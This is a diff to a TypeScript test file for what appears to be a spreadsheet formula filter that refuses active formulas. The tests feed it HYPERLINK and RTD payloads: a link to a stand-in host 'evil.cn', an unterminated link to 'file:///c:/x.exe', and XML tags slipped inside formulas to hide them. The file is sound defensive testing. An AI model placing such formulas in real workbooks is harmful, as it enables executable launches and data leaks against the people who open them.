@@ -39,6 +39,8 @@ describe('targets of clicks and calculations', () => {
     [String.raw`HYPERLINK("\"&"\evil.cn\a","查看")`, 'HYPERLINK'],
     ['IF(1,HYPERLINK(A1),HYPERLINK("#A1"))', 'HYPERLINK'],
     ['HYPERLINK("https://a.cn/"&B1)&HYPERLINK(B1)', 'HYPERLINK'],
+    // Without an end.
+    ['HYPERLINK("file:///c:/x.exe', 'HYPERLINK'],
   ])('%s is refused', async (text, active) => expect(await formula(text)).toBe(active))
 
   test.each([
@@ -50,6 +52,18 @@ describe('targets of clicks and calculations', () => {
     'IF(A1="CALL (说明)","a|b","HYPERLINK(无)")',
     'MYIMAGE(1)',
   ])('%s is taken', async (text) => expect(await formula(text)).toBe('ok'))
+
+  test('other elements do not hide or end a formula', async () => {
+    for (const within of ['<v/>', '<t/>', '<v>1</v>', '<t></t>']) {
+      expect([within, await sheet(`<f>${within}RTD("x")</f>`)]).toEqual([within, 'RTD'])
+      expect([within, await sheet(`<f>RT${within}D("x")</f>`)]).toEqual([within, 'RTD'])
+      expect([within, await sheet(`<f>${within}HYPERLINK(A1)</f>`)]).toEqual([within, 'HYPERLINK'])
+    }
+    expect(await sheet('<v>1</v>RTD("x")')).toBe('RTD')
+    expect(await parts({ 'xl/worksheets/sheet1.xml': '<worksheet><f>HYPERLINK(A1)' })).toBe('HYPERLINK')
+    expect(await sheet('<f t="shared" si="0"/><v>HYPERLINK(A1)</v>')).toBe('ok')
+    expect(await sheet('<x14:formula1><xm:f>名单!$A$1</xm:f></x14:formula1>')).toBe('ok')
+  })
 
   const quoted = (text: string): Promise<string> => field(text.replace(/"/g, '&quot;'))
   test.each([
